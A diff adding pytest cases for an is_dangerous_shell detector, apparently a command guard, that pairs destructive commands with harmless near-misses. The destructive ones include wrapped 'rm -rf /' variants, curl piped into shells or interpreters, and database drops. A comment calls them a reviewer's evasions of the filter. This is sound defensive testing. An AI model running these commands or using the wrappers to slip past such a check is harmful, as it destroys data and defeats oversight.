@@ -182,3 +182,26 @@ def test_real_python_file_is_not_blocked() -> None:
 ])
 def test_long_script_still_judged_everywhere(cmd: str) -> None:
     assert is_dangerous_shell(cmd)
+
+
+# Reviewer's evasions now caught, each with a benign near-miss beside it.
+@pytest.mark.parametrize(("dangerous", "near_miss"), [
+    ("echo rm -rf / | sh", "echo rm -rf ./x | sh"), ("echo -n rm -rf / | bash", "echo -n hi | sh"),
+    ("watch rm -rf /", "watch -n 5 ls"), ("rm -rf ../../../../../../", "rm -rf ../../x"),
+    ("curl x | $SHELL", "curl x | jq ."), ("curl http://x | pwsh", "curl http://x -o a.ps1"),
+    ("curl x | osascript", "curl x | less"), ("curl x | ipython", "curl x | head"),
+    ("docker exec db psql -c 'DROP TABLE users'", "docker exec db psql -c 'SELECT 1'"),
+    ("kubectl exec pod -- rm -rf /", "kubectl exec pod -- ls /"),
+    ("docker exec c rm -rf /", "docker exec c rm -rf /tmp/x"),
+    ("podman exec c rm -rf /", "podman exec c ls"),
+    ("nsenter -t 1 -m rm -rf /", "nsenter -t 1 -m ls"),
+    ("strace rm -rf /", "strace ls /"), ("unshare rm -rf /", "unshare ls"),
+    ("fakeroot rm -rf /", "fakeroot make"), ("screen -dm rm -rf /", "screen -dm top"),
+    ("parallel rm -rf ::: /", "parallel gzip ::: a b"), ("dropdb prod", "createdb prod"),
+    ("mysqladmin -f drop prod", "mysqladmin status"),
+    ("rsync -a --delete /empty/ /", "rsync -a --delete ./src/ ./dst/"),
+    ("rm -rf /\x00", "rm -rf ./x\x00"),
+])
+def test_reviewed_evasion(dangerous: str, near_miss: str) -> None:
+    assert is_dangerous_shell(dangerous)
+    assert not is_dangerous_shell(near_miss)
